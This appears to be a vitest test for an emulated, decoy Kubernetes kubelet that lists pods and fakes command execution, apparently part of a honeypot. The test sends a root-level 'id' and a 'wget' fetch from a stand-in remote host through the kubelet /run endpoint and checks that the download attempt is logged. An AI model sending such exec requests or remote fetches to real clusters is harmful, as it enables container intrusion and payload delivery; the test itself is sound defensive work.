import { connect } from 'node:tls';
import { expect, it } from 'vitest';
import { serve } from '../fixture.ts';
import { kubelet } from './kubelet.ts';

async function ask(
  port: number,
  method: string,
  target: string,
  body = '',
): Promise<{ status: number; body: string }> {
  const socket = connect({ port, host: '127.0.0.1', rejectUnauthorized: false });
  socket.end(`${method} ${target} HTTP/1.0\r\nHost: x\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
  let said = '';
  for await (const piece of socket) said += (piece as Buffer).toString('latin1');
  return { status: Number(said.split(' ')[1]), body: said.slice(said.indexOf('\r\n\r\n') + 4) };
}

it('the kubelet shows its pods and runs a command that pretends', async () => {
  const live = await serve(kubelet, {}, { kind: 'kubernetes-node' });
  try {
    const { items } = JSON.parse((await ask(live.port, 'GET', '/pods')).body);
    const { name, namespace } = items[0].metadata;
    const container = items[0].spec.containers[0].name;
    expect((await ask(live.port, 'POST', `/run/${namespace}/${name}/${container}`, 'cmd=id')).body).toMatch(
      /^uid=0\(root\)/,
    );
    await ask(live.port, 'POST', `/run/${namespace}/${name}/${container}?cmd=wget+http://192.0.2.9/x`);
    expect(live.told('download')).toMatchObject([{ url: 'http://192.0.2.9/x' }]);
    expect((await ask(live.port, 'GET', '/nothing')).body).toBe('404 page not found\n');
    expect(live.faults).toEqual([]);
  } finally {
    await live.close();
  }
});
